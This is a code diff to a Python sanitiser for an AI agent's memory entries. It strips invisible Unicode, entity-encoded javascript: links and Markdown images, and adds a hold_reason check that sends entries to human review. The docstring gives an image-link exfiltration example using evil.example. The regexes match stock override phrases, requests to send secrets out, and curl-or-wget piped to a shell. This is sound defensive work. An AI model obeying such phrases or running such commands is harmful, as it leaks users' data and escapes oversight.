@@ -15,7 +15,19 @@ put or pass itself off as something else:
 - no injected or markup tags (``<relevant_memories>``; the registry's blocks for the
   ``dreaming-ingestion`` scope);
 - no raw metadata (``score=0.9``, ``confidence: high``, line references ``#L12``);
-- no link that runs or embeds something when followed (``javascript:``, ``data:text/html``).
+- no link that runs or embeds something when followed (``javascript:``, ``data:text/html``),
+  also when its characters are entity-encoded (``javascript&#58;``, which CommonMark
+  decodes), and no image or Markdown link at all: an image is fetched by every viewer that
+  shows the file (``![x](https://evil.example/t.png?c=...)`` leaks), so only its alt text
+  stays, and a link keeps its text with the address as plain text;
+- no characters a reader cannot see: Unicode tag characters (U+E0000-E007F, "ASCII
+  smuggling"), soft hyphens, fillers, variation selectors and other default-ignorable
+  code points, bidi controls; and the text is NFKC-normalised first, so full-width
+  markers (``＜/relevant_memories＞``, ``＜system＞``) are matched as the markers they read as.
+
+:func:`hold_reason` names entry text shaped as an instruction to override the agent's
+instructions or to send data out: deep never writes such an entry straight to MEMORY.md, it
+goes to review with that reason.
 
 :func:`entry_text_problems` reports those (the deep phase rejects a model's text that has
 any); :func:`sanitize_entry_text` removes them. Both use the same patterns, and sanitizing
@@ -28,7 +40,9 @@ they are shown as JSON, so only what a tokenizer might read as a control token i
 
 from __future__ import annotations
 
+import html
 import re
+import unicodedata
 
 from dreaming.ingest.tags import Scope, TagRegistry
 from dreaming.memory.memory_file import MARKER_RE
@@ -99,8 +113,24 @@ LINE_REF_RE = re.compile(r"#L\d+(?:-L?\d+)?")
 # space, word joiner, BOM, plus any remaining C0/C1 control character. Whitespace is
 # collapsed separately; ZWJ/ZWNJ stay because scripts and emoji need them.
 _INVISIBLE = re.compile(
-    "[\u200b\u2060\ufeff\u202a-\u202e\u2066-\u2069\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f]"
+    "[\u200b\u2060\ufeff\u202a-\u202e\u2066-\u2069\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f"
+    # default-ignorable code points a reader cannot see: soft hyphen, combining grapheme
+    # joiner, Hangul fillers, Khmer inherent vowels, Mongolian selectors, LRM/RLM and ALM,
+    # invisible operators, variation selectors, the tag block ("ASCII smuggling")
+    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200e\u200f\u2061-\u2064"
+    "\u206a-\u206f\u3164\ufe00-\ufe0f\uffa0\ufff0-\ufff8\U0001d173-\U0001d17a"
+    "\U000e0000-\U000e0fff]"
 )
+# Images are fetched by whatever shows the file: only their alt text stays. Links keep
+# their text; the address stays as plain text. Reference definitions go.
+_IMAGE = re.compile(
+    r"!\[([^\[\]\n]{0,200})\]\s*(?:\((?:[^()\n]|\([^()\n]{0,100}\)){0,500}\)|\[[^\[\]\n]{0,100}\])"
+)
+_LINK = re.compile(
+    r"\[([^\[\]\n]{1,200})\]\(\s*<?((?:[^()<>\s]|\([^()<>\s]{0,100}\)){1,500})>?"
+    r"(?:\s+\"[^\"\n]*\")?\s*\)"
+)
+_LINK_DEF = re.compile(r"^\s{0,3}\[[^\[\]\n]{1,200}\]:\s*\S+.*$", re.MULTILINE)
 # What a removal inside brackets leaves behind ("(score=0.9)" -> "( )"); a bare "()" of
 # the user's own stays.
 _EMPTY_BRACKETS = re.compile(r"\(\s+\)|\[\s+\]|\{\s+\}")
@@ -142,7 +172,7 @@ def entry_text_problems(
     body = text.strip()
     if not body:
         return [EMPTY]
-    text = _NEWLINES.sub("\n", text)
+    text = _NEWLINES.sub("\n", _normalized(text))
     if len(body) > max_chars:
         problems.append(f"text is too long ({len(body)} characters, at most {max_chars})")
     if (found := _first(_FENCE, text)) is not None:
@@ -161,14 +191,31 @@ def entry_text_problems(
         problems.append(f"contains an injected or markup tag ({tag!r})")
     if (found := _first(_UNSAFE_LINK, text)) is not None:
         problems.append(f"contains an unsafe link ({found!r})")
+    if (found := _first(_IMAGE, text) or _first(_LINK, text)) is not None:
+        problems.append(f"contains a Markdown image or link ({found!r})")
     meta = _first(_METADATA, text) or _first(_BRACKET_REF, text) or _first(LINE_REF_RE, text)
     if meta is not None:
         problems.append(f"contains raw metadata ({meta!r})")
     return problems
 
 
+def _normalized(text: str) -> str:
+    """The text as a reader sees it: entities decoded (CommonMark decodes ``&#58;``), NFKC
+    (full-width ``＜`` is ``<``), invisible characters gone."""
+    if "&" in text:
+        text = html.unescape(text)
+    if not text.isascii():
+        text = unicodedata.normalize("NFKC", text)
+        text = _INVISIBLE.sub("", text)
+    return text
+
+
 def _pass(text: str, max_chars: int, registry: TagRegistry | None) -> str:
+    text = _normalized(text)
     text = _NEWLINES.sub("\n", _strip_registry(text, registry))
+    text = _LINK_DEF.sub(" ", text)
+    text = _IMAGE.sub(lambda m: f" {m.group(1)} ", text)
+    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
     text = _HTML_COMMENT.sub(" ", text)
     text = _COMMENT_TOKEN.sub(" ", text)
     text = _CHAT_TOKEN.sub(" ", text)
@@ -254,6 +301,41 @@ def sanitize_entry_text(
     return text
 
 
+# Entry text that would have the agent set its instructions aside, or send what it holds
+# out of the conversation: fine as a record of what someone said, never as a standing
+# instruction the agent reads on every turn without a person having looked at it.
+_OVERRIDE = re.compile(
+    r"\b(?:ignore|disregard|forget|override|bypass|drop)\b[^.!?\n]{0,40}?"
+    r"\b(?:previous|prior|earlier|above|all|any|your|the|system|safety)\b[^.!?\n]{0,30}?"
+    r"\b(?:instructions?|rules?|guidelines?|prompts?|polic(?:y|ies)|guardrails?)\b"
+    r"|\byou are (?:now|no longer)\b|\bnew (?:system )?instructions\s*:|\bjailbreak"
+    r"|\bdeveloper mode\b|\bdo anything now\b",
+    re.IGNORECASE,
+)
+_SEND_OUT = re.compile(
+    r"\b(?:send|e-?mail|mail|upload|post|forward|share|copy|transfer|leak|exfiltrate|paste)"
+    r"\w*\b[^.!?\n]{0,60}?\b(?:every|all|any|each|the whole|entire)\b[^.!?\n]{0,30}?"
+    r"\b(?:files?|documents?|passwords?|secrets?|keys?|tokens?|credentials?|data|emails?|"
+    r"messages?|contacts?|history|memory|repos?(?:itory|itories)?|code|logs?)\b"
+    r"[^.!?\n]{0,60}?\b(?:to|at|into)\b\s+\S*(?:@|https?://|\.\w{2,})",
+    re.IGNORECASE,
+)
+_PIPE_TO_SHELL = re.compile(r"\b(?:curl|wget)\b[^|\n]{0,200}\|\s*(?:ba|z)?sh\b", re.IGNORECASE)
+
+
+def hold_reason(text: str) -> str | None:
+    """Why `text` must be seen by a person before it becomes memory, or None: it tells the
+    agent to override its instructions, to send data out, or to run a fetched script."""
+    seen = _normalized(text)
+    if _OVERRIDE.search(seen):
+        return "tells the agent to set its instructions aside"
+    if _SEND_OUT.search(seen):
+        return "tells the agent to send data out"
+    if _PIPE_TO_SHELL.search(seen):
+        return "tells the agent to run a fetched script"
+    return None
+
+
 def prompt_safe(text: str) -> str:
     """A data string fit to render as JSON in a prompt: chat-template tokens removed and
     Unicode line separators made spaces (JSON leaves both as they are). Nothing else is
@@ -270,6 +352,7 @@ __all__ = [
     "EMPTY",
     "LINE_REF_RE",
     "entry_text_problems",
+    "hold_reason",
     "prompt_safe",
     "sanitize_entry_text",
 ]
